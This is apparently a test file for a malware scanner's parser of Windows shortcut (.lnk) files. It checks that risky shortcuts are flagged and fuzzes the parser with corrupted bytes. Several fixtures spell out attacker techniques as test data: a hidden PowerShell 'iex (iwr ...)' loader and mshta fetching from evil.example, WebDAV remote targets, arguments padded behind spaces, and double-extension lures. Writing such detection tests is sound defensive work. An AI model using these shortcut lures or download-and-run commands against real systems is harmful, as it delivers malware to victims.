import assert from 'node:assert/strict'
import { Buffer } from 'node:buffer'
import { describe, it } from 'node:test'
import fc from 'fast-check'
import { Unscanned } from '../../../src/domain/verdict.ts'
import { ContentView } from '../../../src/unpack/content-view.ts'
import { lnkOpener } from '../../../src/unpack/documents/lnk.ts'
import { parseShortcut } from '../../../src/unpack/documents/lnk-parser.ts'
import { nodeOf, type RecordingRun, recordingRun } from '../recording-run.ts'
import { type LnkOptions, makeLnk } from './make-lnk.ts'

const CMD = 'C:\\Windows\\System32\\cmd.exe'
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'

async function open(bytes: Buffer, fileName = 'a.lnk'): Promise<RecordingRun> {
  const run = recordingRun()
  await lnkOpener().open(nodeOf(bytes, { type: 'lnk', fileName }), run)
  return run
}

describe('shortcuts', () => {
  it('are read whole: item list, link info, strings, blocks', () => {
    const bytes = makeLnk({
      target: CMD,
      linkInfo: 'D:\\other\\notepad.exe',
      relativePath: '..\\..\\cmd.exe',
      arguments: '/c echo grüße',
      icon: '%SystemRoot%\\System32\\shell32.dll',
      environment: '%windir%\\System32\\cmd.exe',
      machine: 'desktop-7',
    })
    const shortcut = parseShortcut(new ContentView({ kind: 'memory', bytes }))
    assert.deepEqual(shortcut, {
      targets: [CMD, 'D:\\other\\notepad.exe', '%windir%\\System32\\cmd.exe', '..\\..\\cmd.exe'],
      arguments: '/c echo grüße',
      workingFolder: '',
      description: '',
      icon: '%SystemRoot%\\System32\\shell32.dll',
      showCommand: 7,
      machine: 'desktop-7',
      environmentTarget: '%windir%\\System32\\cmd.exe',
      end: bytes.length,
      faults: [],
    })
  })

  const cases: readonly { lnk: LnkOptions; fileName?: string; expected: Record<string, string>; because: string }[] = [
    { lnk: { target: 'C:\\Program Files\\App\\app.exe' }, expected: {}, because: 'a program' },
    {
      lnk: { target: 'C:\\Program Files\\App\\app.exe', arguments: '--profile "x"' },
      expected: {},
      because: 'a program and its options',
    },
    { lnk: { target: 'C:\\Users\\a\\report.pdf' }, expected: {}, because: 'a document' },
    { lnk: { target: CMD }, expected: {}, because: 'a command prompt' },
    {
      lnk: { target: CMD, arguments: '/k title x' },
      expected: { 'Shortcut.Command': 'medium' },
      because: 'a prompt that is told something',
    },
    {
      lnk: { target: POWERSHELL, arguments: '-w hidden -c "iex (iwr http://evil.example/a)"' },
      expected: { 'Shortcut.Command': 'high' },
      because: 'a loader',
    },
    {
      lnk: { relativePath: '..\\..\\Windows\\System32\\mshta.exe', arguments: 'https://evil.example/a.hta' },
      expected: { 'Shortcut.Command': 'high' },
      because: 'a target by relative path only',
    },
    {
      lnk: { target: CMD, arguments: `${' '.repeat(300)}/c calc` },
      expected: { 'Shortcut.Command': 'medium', 'Shortcut.HiddenArguments': 'high' },
      because: 'arguments behind spaces',
    },
    {
      lnk: { target: 'C:\\a.exe' },
      fileName: 'invoice.pdf.lnk',
      expected: { 'Shortcut.DoubleExtension': 'medium' },
      because: 'another extension shown',
    },
    {
      lnk: { target: CMD, arguments: '/c x', icon: 'C:\\Program Files\\Adobe\\AcroRd32.exe' },
      expected: { 'Shortcut.Command': 'medium', 'Shortcut.FalseIcon': 'medium' },
      because: "a document's icon",
    },
    {
      lnk: { target: 'C:\\x\\readme.exe', environment: POWERSHELL, arguments: '-c x' },
      expected: { 'Shortcut.Command': 'medium', 'Shortcut.FalseTarget': 'medium' },
      because: 'two targets',
    },
    {
      lnk: { linkInfo: '\\\\evil.example@80\\DavWWWRoot\\a.exe' },
      expected: { 'Shortcut.RemoteTarget': 'high' },
      because: 'WebDAV',
    },
    {
      lnk: { target: 'C:\\a.exe', icon: '\\\\10.0.0.1\\s\\a.ico' },
      expected: { 'Shortcut.RemoteIcon': 'medium' },
      because: 'icon from a share',
    },
    {
      lnk: { target: 'C:\\a.exe', appended: Buffer.alloc(5000, 'x') },
      expected: { 'Shortcut.AppendedData': 'medium' },
      because: 'data behind it',
    },
  ]
  for (const { lnk, fileName, expected, because } of cases) {
    it(`say ${JSON.stringify(expected)} of ${because}`, async () => {
      const run = await open(makeLnk(lnk), fileName)
      assert.deepEqual(Object.fromEntries(run.findings.map((finding) => [finding.name, finding.risk])), expected)
      assert.deepEqual(run.faults, [])
    })
  }

  it('hand over the command line as text, addresses, and what stands behind', async () => {
    const appended = Buffer.from('MZ hidden program')
    const run = await open(makeLnk({ target: POWERSHELL, arguments: '-c iwr http://evil.example/p.ps1', appended }))
    assert.deepEqual(
      run.members.map((member) => [member.name, member.bytes.toString()]),
      [
        ['(command line).txt', `${POWERSHELL} -c iwr http://evil.example/p.ps1`],
        ['(appended data)', 'MZ hidden program'],
      ],
    )
    assert.deepEqual(run.urls, ['http://evil.example/p.ps1'])
  })

  it('are damaged where a length lies, and the rest is handed over', async () => {
    const bytes = makeLnk({ arguments: 'x' })
    bytes.writeUInt16LE(0xffff, 76)
    const run = await open(bytes)
    assert.equal(run.faults[0]?.reason, 'malformed')
    await assert.rejects(open(bytes.subarray(0, 50)), { name: 'Unscanned', reason: 'malformed' })
  })

  it('take any bytes', async () => {
    const good = makeLnk({
      target: CMD,
      linkInfo: 'C:\\a',
      relativePath: 'b',
      arguments: 'c',
      environment: 'd',
      machine: 'e',
    })
    const survive = async (bytes: Buffer) => {
      await open(bytes).catch((error) => assert.ok(error instanceof Unscanned, String(error)))
    }
    for (let length = 0; length < good.length; length++) await survive(good.subarray(0, length))
    const flips = fc.array(fc.tuple(fc.nat(good.length - 1), fc.nat(255)), { minLength: 1, maxLength: 10 })
    const property = fc.asyncProperty(flips, async (edits) => {
      const bytes = Buffer.from(good)
      for (const [at, value] of edits) bytes[at] = value
      await survive(bytes)
    })
    await fc.assert(property, { numRuns: 500 })
  })

  it('are its only kind', () => {
    assert.equal(lnkOpener().wants(nodeOf(Buffer.alloc(1), { type: 'lnk' })), 'members')
    assert.equal(lnkOpener().wants(nodeOf(Buffer.alloc(1), { type: 'pe' })), undefined)
  })
})
